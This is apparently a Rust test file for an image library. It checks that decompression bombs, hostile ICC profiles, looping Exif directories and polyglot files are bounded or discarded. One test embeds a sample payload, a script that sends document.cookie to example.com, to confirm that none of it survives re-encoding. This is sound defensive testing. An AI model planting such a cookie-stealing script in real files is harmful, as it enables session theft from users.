//! Rows about metadata: text, profiles, Exif, and data after the picture.

use bombproof::instrument::measure_work;
use bombproof::{ColorConversion, Limits, Orientation, Request, probe};
use bombproof_testkit::bombs::{exif, icc, jpeg, png, webp, with_trailing_data};
use bombproof_testkit::{icc as profiles, png as png_writer};

use crate::attack::{Attack, SMALL, attack, attack_with};
use crate::manifest;
use crate::payload::surviving_part;

/// Metadata must cost nothing: the same picture, from the same number of allocations and bytes.
fn assert_costs_nothing(with: &Attack, without: &Attack) {
    assert_eq!(with.assert_picture(SMALL), without.assert_picture(SMALL));
    assert_eq!(with.heap, without.heap, "{with:?} {without:?}");
    assert_eq!(with.work.inflated_bytes, 0);
}

/// A profile of 50 KB that inflates to 60 MB.
#[test]
fn row_05_a_profile_is_inflated_no_further_than_its_cap() {
    for inflated in [1 << 20, 50 << 20] {
        let attack = attack(&png::profile(inflated));
        let color = attack.assert_picture(SMALL).color();
        assert!(matches!(color, ColorConversion::Ignored(_)), "{color:?}");
        assert!(attack.work.inflated_bytes <= 1 << 20, "{attack:?}");
        assert!(attack.heap.peak_bytes < 4 << 20, "{attack:?}");
    }
}

/// The bounds on hostile profiles rest on this counter.
#[test]
fn an_honest_profile_is_inflated_and_counted() {
    let profile = profiles::rgb("GBR", &profiles::GBR);
    let attack = attack(&png::with_profile(&png_writer::zlib(&profile)));
    assert_eq!(attack.assert_picture(SMALL).color(), ColorConversion::Converted);
    // By `probe`, by the run, which reads the header again, and for the conversion.
    assert_eq!(attack.work.inflated_bytes, 3 * profile.len() as u64, "{attack:?}");
}

/// The bounds on floods of markers rest on this counter. Any number of fill bytes may precede a marker
/// (T.81, B.1.1.2).
#[test]
fn every_fill_byte_is_counted() {
    let file = manifest::read("valid/photo.jpg");
    let filled = [&file[..2], &[0xFF; 5_000], &file[2..]].concat();
    let parsed = |file: &[u8]| measure_work(|| probe(file).unwrap()).1.parsed_bytes;
    assert_eq!(parsed(&filled) - parsed(&file), 5_000);
}

/// zTXt and iTXt of 4.7 MiB that inflate to 1 GiB.
#[test]
fn row_06_text_is_never_inflated_and_never_stored() {
    let clean = attack(&png::with_options(png_writer::Options::default()));
    for kind in [png::Text::Compressed, png::Text::International] {
        let bomb = png::text(kind, 64 << 20);
        let attack = attack(&bomb);
        assert_costs_nothing(&attack, &clean);
        // Each walk reads only the header of the chunk.
        assert!(attack.work.parsed_bytes <= clean.work.parsed_bytes + 6 * 12, "{attack:?}");
    }
}

/// Overlapping or repeated tags made a profile of 1 MiB cost 0.4 s. Its tables hold megabytes.
#[test]
fn row_23_a_hostile_profile_is_ignored_or_in_the_quote() {
    for profile in [
        icc::duplicate_tags(200),
        icc::duplicate_tags(40_000),
        icc::large_table(9),
        icc::large_table(33),
        icc::large_table(120),
        icc::padded(900_000),
        vec![0xFF; 100_000],
    ] {
        let deflated = png_writer::zlib(&profile);
        let mut files = vec![webp::with_icc(&profile), png::with_profile(&deflated)];
        // A JPEG holds at most 255 parts.
        if profile.len() < 255 * 65_000 {
            files.push(jpeg::with_icc(&profile));
        }
        for file in files {
            let attack = attack(&file);
            attack.assert_picture(SMALL);
            // Of a profile over the limits, only the length is read.
            assert!(attack.work.inflated_bytes <= 1 << 20, "{attack:?}");
            assert!(attack.heap.peak_bytes <= 16 << 20, "{attack:?}");
        }
    }
}

/// 134 bytes that load four million directories: a pointer to itself.
#[test]
fn row_24_an_exif_directory_is_read_once_and_nothing_is_followed() {
    for (tiff, expected) in [
        (exif::ifd_loop(), Orientation::Upright),
        (exif::pointer_tree(1, 1_000, 4_000), Orientation::Upright),
        (exif::huge_count(65_535), Orientation::Upright),
    ] {
        for file in [jpeg::with_exif(&tiff), png::with_exif(&tiff), webp::with_exif(&tiff)] {
            assert_eq!(probe(&file).unwrap().orientation(), expected);
            attack(&file).assert_picture(SMALL);
        }
    }
}

/// A polyglot: a picture, and a page with a script after it.
#[test]
fn row_27_no_eight_bytes_of_a_payload_survive() {
    let payload =
        b"PK\x03\x04<script>document.location='https://example.com/'+document.cookie</script>";
    for clean in [
        png::with_options(png_writer::Options::default()),
        jpeg::with_segments(Vec::new()),
        webp::with_icc(&icc::padded(0)),
    ] {
        let polyglot = with_trailing_data(&clean, payload);
        for request in [Request::cover(16, 16).jpeg(80), Request::cover(16, 16).png()] {
            let attack = attack_with(&polyglot, &request, &Limits::default());
            let made = attack.assert_picture(SMALL);
            let expected = attack_with(&clean, &request, &Limits::default());
            assert_eq!(made, expected.assert_picture(SMALL));
            assert_eq!(surviving_part(payload, made.bytes()), None);
        }
    }
    // A JPEG comment can hold a script as well.
    let comment = attack(&jpeg::markers(0xFE, 3, payload));
    assert_eq!(surviving_part(payload, comment.assert_picture(SMALL).bytes()), None);
}

/// 5.4 KB: three levels of directories. Each entry points to the complete next level.
#[test]
fn row_44_a_tree_of_directories_is_not_walked() {
    let tree = exif::pointer_tree(3, 200, 200);
    for file in [jpeg::with_exif(&tree), png::with_exif(&tree), webp::with_exif(&tree)] {
        let attack = attack(&file);
        attack.assert_picture(SMALL);
        // 200 entries of the first directory, on each of the walks; the tree has 1.6 billion.
        assert!(attack.work.parsed_bytes <= 8 * file.len() as u64, "{attack:?}");
    }
}

/// 64 KB of records that all name one long string: 178 MB when each is kept.
#[test]
fn row_45_the_text_of_a_profile_is_never_read() {
    let mluc = icc::mluc(2_600, 30_000);
    for file in
        [jpeg::with_icc(&mluc), webp::with_icc(&mluc), png::with_profile(&png_writer::zlib(&mluc))]
    {
        let attack = attack(&file);
        let color = attack.assert_picture(SMALL).color();
        assert!(matches!(color, ColorConversion::Ignored(_)), "{color:?}");
        assert!(attack.heap.peak_bytes < 2 << 20, "{attack:?}");
    }
    // When the profile has the tags of a colour model too, only those are copied.
    let [short, long] = [0, 100_000].map(|padding| {
        let attack = attack(&jpeg::with_icc(&icc::padded(padding)));
        assert_eq!(attack.assert_picture(SMALL).color(), ColorConversion::Converted);
        attack.heap.peak_bytes
    });
    assert_eq!(short, long);
}

/// The decoder doubled an eXIf or iCCP chunk as large as the file, and did not count it.
#[test]
fn row_50_metadata_as_large_as_the_file_never_reaches_the_codec() {
    let clean = attack(&png::with_options(png_writer::Options::default()));
    assert_costs_nothing(&attack(&png::long_exif(8 << 20)), &clean);
    // The profile is over its limit, so it is reported and not copied.
    let noise: Vec<u8> =
        (0..8u32 << 20).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let attack = attack(&png::with_profile(&noise));
    assert!(matches!(attack.assert_picture(SMALL).color(), ColorConversion::Ignored(_)));
    assert!(attack.heap.peak_bytes < 4 << 20, "{attack:?}");
}
